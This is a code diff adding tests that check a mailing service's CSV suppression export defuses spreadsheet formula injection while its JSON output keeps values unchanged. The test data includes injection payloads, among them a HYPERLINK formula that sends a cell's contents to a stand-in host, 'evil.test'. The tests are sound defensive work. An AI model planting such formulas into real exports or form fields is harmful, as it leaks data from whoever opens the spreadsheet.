@@ -444,3 +444,44 @@ def test_mailable_means_the_same_in_show_list_api_and_the_suppressions(api):
         "/v1/suppressions", headers={"Accept": "text/csv"}).text)))
     assert {int(r["contact_id"]): (r["mailable"] == "true", r["reason"] or None)
             for r in table} == suppressed
+
+
+FORMULAS = ['=HYPERLINK("http://evil.test/?"&A1,"Open")', "+1+1", "-2+3", "@SUM(1+1)",
+            "\t=1+1", "\r=1+1"]
+
+
+def test_no_csv_cell_can_start_a_formula(api):
+    """What a form submitter chose (an address, an opt-out reason) comes out of the
+    suppressions CSV behind a single quote when a spreadsheet would run it (OWASP); the
+    JSON keeps it as it came."""
+    lead = api.client.post("/v1/leads", json={**LEAD, "email": "=1+1@people.test"}).json()
+    api.client.post(f"/v1/contacts/{lead['contact_id']}/optout",
+                    json={"reason": FORMULAS[0]})
+    for n, formula in enumerate(FORMULAS[1:]):
+        contact = api.client.post("/v1/contacts", json={
+            "email": f"+{n}@people.test", "first": "Ann", "last": "Lee"}).json()
+        ok_json(api.path, "contact", "optout", str(contact["id"]), "--reason", formula)
+
+    import csv
+    import io
+    answer = api.client.get("/v1/suppressions", headers={"Accept": "text/csv"})
+    table = list(csv.reader(io.StringIO(answer.text, newline="")))
+    header, cells = table[0], [c for row in table[1:] for c in row]
+    assert len(table) == 1 + len(FORMULAS)
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    by_email = {row[header.index("email")]: row[header.index("reason")] for row in table[1:]}
+    assert by_email["'=1+1@people.test"] == "'" + FORMULAS[0]
+    assert sorted(by_email.values()) == sorted("'" + f for f in FORMULAS)
+    # The JSON is not for spreadsheets: the values as they came.
+    page = api.client.get("/v1/suppressions").json()["suppressions"]
+    assert sorted(s["reason"] for s in page) == sorted(FORMULAS)
+
+
+def test_every_csv_the_service_writes_goes_through_one_helper():
+    from pathlib import Path
+
+    import feedback_mta
+    root = Path(feedback_mta.__file__).parent
+    writers = {str(p.relative_to(root)) for p in root.rglob("*.py")
+               if "csv.writer(" in p.read_text() or "csv.DictWriter(" in p.read_text()}
+    assert writers == {"queries/sheets.py"}
